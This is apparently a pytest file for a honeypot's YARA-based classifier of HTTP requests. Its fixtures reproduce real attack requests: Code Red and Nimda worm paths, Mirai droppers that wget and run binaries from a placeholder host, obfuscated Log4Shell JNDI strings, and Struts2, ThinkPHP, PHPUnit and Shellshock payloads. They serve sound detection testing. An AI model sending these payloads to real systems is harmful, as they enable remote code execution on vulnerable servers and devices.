"""The shipped YARA rules: each matches its own sample and no other rule
does, each sample gets its family, and requests that share a worm's path
but not its whole request get no worm family. The samples are written
here from the tools' documented behaviour and the public descriptions in
the field notes (no captured traffic)."""
import glob
import os
import re
import subprocess

import pytest

from conftest import FLYPAPER, ROOT

TAIL = (b"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
        b"%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a")
NIMDA = [
    "/scripts/root.exe?/c+dir", "/MSADC/root.exe?/c+dir",
    "/c/winnt/system32/cmd.exe?/c+dir", "/d/winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
    "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
    "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
    "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
]
CHROME = (b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
          b"(KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36")
NSE = b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"

# rule -> (family, sample)
SAMPLES = {
    "codered1": ("codered", b"GET /default.ida?" + b"N" * 224 + TAIL + b" HTTP/1.0\r\n"
                 b"Content-type: text/xml\r\nHOST:www.worm.com\r\n Accept: */*\r\n"
                 b"Content-length: 3569 \r\n\r\n" + bytes(range(256)) * 4),
    "codered2": ("codered", b"GET /default.ida?" + b"X" * 224 + TAIL + b" HTTP/1.0\r\n"
                 b"Content-type: text/xml\r\nContent-length: 3379 \r\n\r\n" + b"\x00\x90" * 500),
    "nimda_scan": ("nimda", b"GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n"),
    "nimda_tftp": ("nimda", b"GET /scripts/root.exe?/c+tftp -i 192.0.2.66 GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n"),
    "nimda_admin": ("nimda", b"GET /scripts/Admin.dll HTTP/1.0\r\n\r\n"),
    "nikto": ("nikto", b"GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: h\r\nUser-Agent: "
              b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)\r\nConnection: Keep-Alive\r\n\r\n"),
    "sqlmap": ("sqlmap", b"GET /item.php?id=1 HTTP/1.1\r\nHost: h\r\nUser-Agent: "
               b"sqlmap/1.7.2#stable (https://sqlmap.org)\r\nAccept: */*\r\n\r\n"),
    "gobuster": ("gobuster", b"GET /admin HTTP/1.1\r\nHost: h\r\nUser-Agent: gobuster/3.5.0\r\n"
                 b"Accept-Encoding: gzip\r\n\r\n"),
    "ffuf": ("ffuf", b"GET /backup HTTP/1.1\r\nHost: h\r\nUser-Agent: Fuzz Faster U Fool v1.1.0\r\n"
             b"Accept-Encoding: gzip\r\n\r\n"),
    "wfuzz": ("wfuzz", b"GET /test HTTP/1.1\r\nHost: h\r\nAccept: */*\r\nUser-Agent: Wfuzz/3.1.0\r\n\r\n"),
    "whatweb": ("whatweb", b"GET / HTTP/1.1\r\nHost: h\r\nAccept-Encoding: gzip;q=1.0\r\n"
                b"Accept: */*\r\nUser-Agent: WhatWeb/0.5.5\r\n\r\n"),
    "wapiti": ("wapiti", b"GET /page.php?cmd=%3Benv%7Cgrep+w4p1t1_md5 HTTP/1.1\r\nHost: h\r\n"
               b"User-Agent: Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0\r\n\r\n"),
    "dirb": ("dirb", b"GET /randomfile1 HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/4.0 "
             b"(compatible; MSIE 6.0; Windows NT 5.1)\r\nAccept: */*\r\n\r\n"),
    "nuclei": ("nuclei", b"GET /?x=${jndi:ldap://${hostName}.cf0a1b2c3d4e5f.oast.fun/a} HTTP/1.1\r\n"
               b"Host: h\r\nUser-Agent: " + CHROME + b"\r\nConnection: close\r\nAccept: */*\r\n"
               b"Accept-Language: en\r\nAccept-Encoding: gzip\r\n\r\n"),
    "nmap": ("nmap", b"GET /nmaplowercheck1 HTTP/1.1\r\nUser-Agent: " + NSE + b"\r\n\r\n"),
    "masscan": ("masscan", b"GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 "
                b"(https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n"),
    "zgrab": ("zgrab", b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n"),
    "mglndd": ("mglndd", b"MGLNDD_192.0.2.1_80\n"),
    "research_scanner": ("research", b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 "
                         b"(compatible; CensysInspect/1.1; +https://about.censys.io/)\r\n\r\n"),
    "spider": ("spider", b"GET /robots.txt HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 "
               b"(compatible; ExampleBot/2.1; +http://www.example.com/bot.html)\r\n\r\n"),
    "mozi_netgear": ("mirai", b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;"
                     b"wget+http://192.0.2.1:8088/bins.m+-O+/tmp/netgear;sh+netgear&curpath=/"
                     b"&currentsetting.htm=1 HTTP/1.0\r\n\r\n"),
    "gpon_rce": ("mirai", b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nUser-Agent: Hello, World\r\n\r\n"
                 b"XWebPageName=diag&diag_action=ping"),
    "jaws_dvr": ("mirai", b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws HTTP/1.1\r\n\r\n"),
    "mirai_loader": ("mirai", b"GET /cgi-bin/x?c=busybox HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"),
    "log4shell": ("log4shell", b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://192.0.2.1/a}\r\n\r\n"),
    "struts2": ("struts2", b"GET /index.action HTTP/1.1\r\nHost: h\r\nContent-Type: %{(#_='multipart/form-data')."
                b"(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}\r\n\r\n"),
    "weblogic": ("weblogic", b"GET /console/css/%252e%252e%252fconsole.portal HTTP/1.1\r\nHost: h\r\n\r\n"),
    "thinkphp_rce": ("thinkphp", b"GET /index.php?s=/index/\\think\\app/invokefunction&function="
                     b"call_user_func_array&vars[0]=shell_exec HTTP/1.1\r\n\r\n"),
    "phpunit_rce": ("phpunit", b"POST /lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php echo 1;"),
    "httpoxy": ("httpoxy", b"GET /cgi-bin/status HTTP/1.1\r\nHost: h\r\nProxy: http://192.0.2.9:3128\r\n\r\n"),
    "optionsbleed": ("optionsbleed", b"OPTIONS / HTTP/1.1\r\nHost: h\r\n\r\nOPTIONS / HTTP/1.1\r\nHost: h\r\n\r\n"),
    "hadoop_yarn": ("hadoop-yarn", b"POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: h\r\n"
                    b"Content-Length: 0\r\n\r\n"),
    "nexus": ("nexus", b"POST /service/extdirect HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\r\n"
              b'{"action":"coreui_Component","method":"previewAssets","data":[{"expression":"1"}]}'),
    "continuum": ("continuum", b"POST /continuum/saveInstallation.action HTTP/1.1\r\nHost: h\r\n\r\n"
                  b"installation.name=x&installation.type=jdk&installation.varValue=%60id%60"),
    "mirai_dropper": ("mirai", b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: h\r\n\r\n<NewStatusURL>$(/bin/busybox "
                      b"wget -g 192.0.2.1 -l /tmp/x -r /bins/x.mips)</NewStatusURL>"),
    "secrets_probe": ("secrets", b"GET /.git/config HTTP/1.1\r\nHost: h\r\n\r\n"),
}

BENIGN = [
    b"GET / HTTP/1.0\r\n\r\n",
    b"GET /index.html HTTP/1.1\r\nHost: example\r\nUser-Agent: curl/7.88.1\r\n\r\n",
    b"GET /robots.txt HTTP/1.1\r\nHost: example\r\nUser-Agent: curl/7.88.1\r\n\r\n",
    b"GET /news/today.html HTTP/1.1\r\nHost: example.org\r\nUser-Agent: " + CHROME + b"\r\n"
    b"Accept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.9\r\n"
    b"Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n",
    b"POST /login HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; "
    b"rv:109.0) Gecko/20100101 Firefox/115.0\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: 20\r\n\r\nuser=ann&pass=secret",
    b"OPTIONS / HTTP/1.1\r\nHost: example\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: example\r\nProxy-Connection: keep-alive\r\n\r\n",
    b"GET /NULL.ida HTTP/1.0\r\n\r\n",
    b"GET /default.ida?" + b"N" * 30 + b" HTTP/1.0\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    b"SSH-2.0-OpenSSH_9.2p1\r\n",
    b"",
]

WORMS = {"codered", "nimda"}


def technique_rules():
    """The rules of rules/techniques.yar: they tag what a request tries,
    name no family, and may match any sample here."""
    path = f"{ROOT}/rules/techniques.yar"
    if not os.path.exists(path):
        return set()
    return set(re.findall(r"^rule (\w+)", open(path).read(), re.M))


def family_rules(rules):
    """The rules that name families, but those generated from the CRS lists."""
    tech = technique_rules()
    return [r for r in rules if not r.startswith("crs_") and r not in tech]


def classify_many(tmp_path, named):
    """{name: bytes} -> {name: (sorted rules, family)} in one run."""
    paths = {}
    for name, data in named.items():
        paths[name] = tmp_path / f"{name}.bin"
        paths[name].write_bytes(data)
    r = subprocess.run([FLYPAPER, "classify", "--rules", f"{ROOT}/rules"] +
                       [str(p) for p in paths.values()],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    rules = {name: [] for name in named}
    family = {name: "" for name in named}
    by_path = {str(p): name for name, p in paths.items()}
    # a match per line, then "=family" and "=tags" lines (when not empty)
    for line in r.stdout.splitlines():
        path, what, rest = line.split("\t", 2)
        name = by_path[path]
        if what == "=family":
            family[name] = rest
        elif not what.startswith("="):
            rules[name].append(what)
    return {name: (sorted(rules[name]), family[name]) for name in named}


def classify(tmp_path, name, data):
    return classify_many(tmp_path, {name: data})[name]


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_each_rule_matches_its_sample_and_gives_its_family(tmp_path, rule):
    family, data = SAMPLES[rule]
    rules, got = classify(tmp_path, rule, data)
    assert got == family, (rules, got)
    assert rule in rules, rules
    # the shipped family rules: only this one (CRS-generated rules may add
    # theirs; nuclei's sample carries a Log4Shell probe too)
    assert family_rules(rules) == [rule] or rule == "nuclei", rules


def test_every_shipped_rule_has_a_sample():
    rules = set()
    for f in glob.glob(f"{ROOT}/rules/*.yar"):
        if os.path.basename(f) == "techniques.yar":
            continue
        rules |= set(re.findall(r"^rule (\w+)", open(f).read(), re.M))
    assert rules == set(SAMPLES)


@pytest.mark.parametrize("i", range(len(BENIGN)))
def test_ordinary_traffic_gets_no_family(tmp_path, i):
    rules, family = classify(tmp_path, f"benign{i}", BENIGN[i])
    assert family == "" and family_rules(rules) == [], rules


def test_nimdas_sixteen_requests_are_nimda(tmp_path):
    got = classify_many(tmp_path, {f"n{i}": b"GET " + p.encode() + b" HTTP/1.0\r\n\r\n"
                                   for i, p in enumerate(NIMDA)})
    assert {f for _, f in got.values()} == {"nimda"}, got


def test_nimdas_paths_in_a_scanners_request_are_never_a_worm(tmp_path):
    """Nikto's IIS tests, nmap's http-enum, a curl: Nimda's paths in any
    shape but the worm's (HTTP/1.1, a User-Agent, a second request) give
    no worm family; the scanner's own, when it says who it is."""
    named = {}
    for i, p in enumerate(NIMDA):
        path = p.encode()
        named[f"nikto{i}"] = (b"GET " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: "
                              b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:003196)\r\n"
                              b"Connection: Keep-Alive\r\n\r\n")
        named[f"nikto25-{i}"] = (b"GET " + path + b" HTTP/1.1\r\nUser-Agent: " + CHROME +
                                 b"\r\nConnection: Keep-Alive\r\nHost: 127.0.0.1\r\n\r\n")
        named[f"ua10-{i}"] = (b"GET " + path + b" HTTP/1.0\r\nUser-Agent: curl/7.88.1\r\n\r\n")
        named[f"pipelined{i}"] = (b"GET " + path + b" HTTP/1.0\r\n\r\nGET / HTTP/1.0\r\n\r\n")
    named["nse"] = (b"GET /scripts/root.exe?/c+dir HTTP/1.1\r\nHost: h\r\nUser-Agent: " + NSE +
                    b"\r\nConnection: close\r\n\r\n")
    named["admin11"] = b"GET /scripts/Admin.dll HTTP/1.1\r\nHost: h\r\n\r\n"
    named["codered-short"] = (b"GET /default.ida?" + b"N" * 223 + TAIL + b" HTTP/1.0\r\n"
                              b"Content-type: text/xml\r\nContent-length: 3379 \r\n\r\n" + bytes(3400))
    named["codered-no-body"] = (b"GET /default.ida?" + b"X" * 224 + TAIL + b" HTTP/1.1\r\n"
                                b"Host: h\r\n\r\n")
    got = classify_many(tmp_path, named)
    worms = {n: f for n, (_, f) in got.items() if f in WORMS}
    assert worms == {}, worms
    assert {got[f"nikto{i}"][1] for i in range(len(NIMDA))} == {"nikto"}
    assert got["nse"][1] == "nmap"


def test_wapiti_3_by_its_crawlers_headers(tmp_path):
    """Wapiti 3's crawler sets four headers (wapitiCore/net/crawler.py in
    Debian's wapiti 3.0.4); a real Firefox 45 sends none of br over plain
    HTTP or a bare en-US. One header changed: no one."""
    head = (b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; rv:45.0) "
            b"Gecko/20100101 Firefox/45.0\r\nAccept-Encoding: gzip, deflate, br\r\nAccept: "
            b"text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r\n"
            b"Connection: keep-alive\r\nAccept-Language: en-US\r\n\r\n")
    got = classify_many(tmp_path, {
        "wapiti": head,
        "firefox45": head.replace(b"gzip, deflate, br", b"gzip, deflate").replace(
            b"en-US\r\n", b"en-US,en;q=0.5\r\n"),
    })
    assert got["wapiti"][1] == "wapiti" and got["firefox45"][1] == "", got


def test_the_tool_beats_the_exploit_it_tries(tmp_path):
    got = classify_many(tmp_path, {
        # Nikto's shellshock test and its struts test
        "nikto-shock": b"GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; echo 93e4r0-CVE-2014-6271: "
                       b"true;echo;echo;\r\nHost: h\r\n\r\n",
        "nikto-struts": b"GET /index.action HTTP/1.1\r\nHost: h\r\nUser-Agent: " + CHROME + b"\r\n"
                        b"Content-Type: %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']"
                        b".addHeader('Nikto-Added-CVE-2017-5638',7*6)}.multipart/form-data\r\n\r\n",
        # the exploit beats a crawler's claim
        "bot-log4shell": b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (compatible; "
                         b"Googlebot/2.1; +http://www.google.com/bot.html) ${jndi:ldap://192.0.2.1/a}\r\n\r\n",
        # the botnet beats the exploit
        "mirai-log4shell": b"GET /shell?cd+/tmp;wget+http://192.0.2.1/a HTTP/1.1\r\nX: ${jndi:ldap://x/a}\r\n\r\n",
        # a tool beats the probe
        "nse-env": b"GET /.env HTTP/1.1\r\nUser-Agent: " + NSE + b"\r\n\r\n",
    })
    assert got["nikto-shock"][1] == "nikto"
    assert got["nikto-struts"][1] == "nikto" and "struts2" in got["nikto-struts"][0]
    assert got["bot-log4shell"][1] == "log4shell" and "spider" in got["bot-log4shell"][0]
    assert got["mirai-log4shell"][1] == "mirai"
    assert got["nse-env"][1] == "nmap" and "secrets_probe" in got["nse-env"][0]


NMAP_PROBES = {
    "niceports": (b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n", "nmap"),
    "sip": (b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n"
            b"To: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\n"
            b"Content-Length: 0\r\nContact: <sip:nm@nm>\r\nAccept: application/sdp\r\n\r\n", "nmap"),
    "rdp": (b"\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=nmap\r\n"
            b"\x01\x00\x08\x00\x03\x00\x00\x00", "nmap"),
    "rtsp": (b"OPTIONS / RTSP/1.0\r\n\r\n", "nmap"),
    # generic probes any scanner sends: no family
    "get": (b"GET / HTTP/1.0\r\n\r\n", ""),
    "options": (b"OPTIONS / HTTP/1.0\r\n\r\n", ""),
    "lines": (b"\r\n\r\n", ""),
    "rdp-admin": (b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=admin\r\n"
                  b"\x01\x00\x08\x00\x03\x00\x00\x00", ""),
    "zgrab-ssh": (b"SSH-2.0-Go\r\n", "zgrab"),
    "zgrab-ssh-kex": (b"SSH-2.0-Go\r\n\x00\x00\x01\x14\x0a\x14" + bytes(16), "zgrab"),
    "openssh": (b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", ""),
}


def test_nmap_only_by_its_own_probes(tmp_path):
    got = classify_many(tmp_path, {k: v[0] for k, v in NMAP_PROBES.items()})
    assert {k: f for k, (_, f) in got.items()} == {k: v[1] for k, v in NMAP_PROBES.items()}


# What the raw bytes hide, the normalised fields show (http_log4j, http_target...).
OBFUSCATED = {
    "l4j-lower": (b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}\r\n\r\n",
                  "log4shell"),
    "l4j-default": (b"GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}\r\n\r\n",
                    "log4shell"),
    "l4j-env": (b"GET / HTTP/1.1\r\nHost: h\r\nReferer: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}\r\n\r\n",
                "log4shell"),
    "l4j-urlencoded": (b"GET /?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D HTTP/1.1\r\nHost: h\r\n\r\n",
                       "log4shell"),
    # ${jndi:ldap://192.0.2.1/a} as the password of Basic auth
    "l4j-basic": (b"GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Basic YWRtaW46JHtqbmRpOmxkYXA6Ly8xOTIuMC4yLjEvYX0=\r\n\r\n",
                  "log4shell"),
    "l4j-method": (b"${jndi:ldap://192.0.2.1/a} / HTTP/1.1\r\nHost: h\r\n\r\n", "log4shell"),
    "jaws-killall": (b"GET /shell?killall+-9+arm;cd+/tmp;wget+http://192.0.2.1/x;sh+x HTTP/1.1\r\n"
                     b"User-Agent: Hello, world\r\n\r\n", "mirai"),
    "jaws-percent": (b"GET /shell?cd%20/tmp;rm%20-rf%20*;wget%20http://192.0.2.1/a HTTP/1.1\r\n\r\n", "mirai"),
    "jaws-encoded": (b"GET /sh%65ll?%63d+/tmp;%77get+http://192.0.2.1/a HTTP/1.1\r\n\r\n", "mirai"),
    "phpunit-prefix": (b"POST /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n"
                       b"Host: h\r\n\r\n<?php system('id');", "phpunit"),
    "weblogic-double": (b"GET /console/images/%252E%252E%252Fconsole.portal HTTP/1.1\r\nHost: h\r\n\r\n",
                        "weblogic"),
    "env-prefix": (b"GET /api/.env HTTP/1.1\r\nHost: h\r\n\r\n", "secrets"),
    "dropper-arch": (b"GET /cgi-bin/luci/;stok=/locale?form=country&country=$(cd+/tmp;wget+http://192.0.2.1/"
                     b"bins/sora.arm7;chmod+777+sora.arm7;./sora.arm7) HTTP/1.1\r\nHost: h\r\n\r\n", "mirai"),
    "bot-v": (b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; "
              b"http://cloudsystemnetworks.com)\r\n\r\n", "spider"),
}


def test_obfuscated_requests_get_their_family(tmp_path):
    got = classify_many(tmp_path, {k: v[0] for k, v in OBFUSCATED.items()})
    assert {k: f for k, (_, f) in got.items()} == {k: v[1] for k, v in OBFUSCATED.items()}


CRS = "/usr/share/modsecurity-crs/rules/scanners-user-agents.data"

# Tools only the Core Rule Set's lists name (no shipped rule does).
CRS_NAMED = {
    "wpscan": (b"GET /wp-login.php HTTP/1.1\r\nHost: h\r\nUser-Agent: WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)\r\n\r\n", "wpscan"),
    "commix": (b"GET /?addr=127.0.0.1 HTTP/1.1\r\nHost: h\r\nUser-Agent: commix/v3.7-stable (https://commixproject.com)\r\n\r\n", "commix"),
    "hydra": (b"GET /admin HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n\r\n", "hydra"),
    "ahrefs": (b"GET /page HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)\r\n\r\n", "spider"),
    "acunetix": (b"GET / HTTP/1.1\r\nHost: h\r\nAcunetix-Product: WVS/12.0\r\n\r\n", "acunetix"),
    "nessus": (b"GET /nessus_is_probing_you_ HTTP/1.1\r\nHost: h\r\n\r\n", "nessus"),
    "doubled-ua": (b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: User-Agent: python-requests/2.31\r\n\r\n", ""),
}


def test_the_core_rule_set_lists_name_more_tools(tmp_path):
    assert os.path.exists(CRS), "modsecurity-crs is not installed: scripts/deps installs it"
    got = classify_many(tmp_path, {k: v[0] for k, v in CRS_NAMED.items()})
    assert {k: f for k, (_, f) in got.items()} == {k: v[1] for k, v in CRS_NAMED.items()}
    assert any(r.startswith("crs_ua_") for r in got["doubled-ua"][0]), got["doubled-ua"]


def test_compiling_warns_of_unbounded_regexes_once_per_rule(daemons, tmp_path):
    """The rule lint: serve and classify warn, naming the file and the rule,
    of each rule whose regex repeats without bound; bounded ones and the
    shipped rules are not named."""
    rules = tmp_path / "rules"
    rules.mkdir()
    mine = rules / "mine.yar"
    mine.write_text('rule greedy_ua { strings: $a = /User-Agent: [^\\r\\n]*x/ '
                    '$b = /a+b/ condition: any of them }\n'
                    'rule bounded_ua { strings: $a = /User-Agent: [^\\r\\n]{0,64}x/ '
                    'condition: $a }\n')
    for f in glob.glob(f"{ROOT}/rules/*.yar"):
        os.symlink(f, rules / os.path.basename(f))
    d = daemons(args=["--rules", str(rules)])
    assert d.stop() == 0
    warned = [line for line in d.text().splitlines() if "repeats without bound" in line]
    assert len(warned) == 1, warned
    assert f"{mine}: rule greedy_ua: the regex /User-Agent: [^\\r\\n]*x/" in warned[0]
    req = tmp_path / "req.bin"
    req.write_bytes(b"GET / HTTP/1.1\r\nUser-Agent: x\r\n\r\n")
    r = subprocess.run([FLYPAPER, "classify", "--rules", str(mine), str(req)],
                       capture_output=True, text=True, timeout=30)
    assert r.returncode == 0 and "rule greedy_ua" in r.stderr, r.stderr
    assert "bounded_ua" not in r.stderr
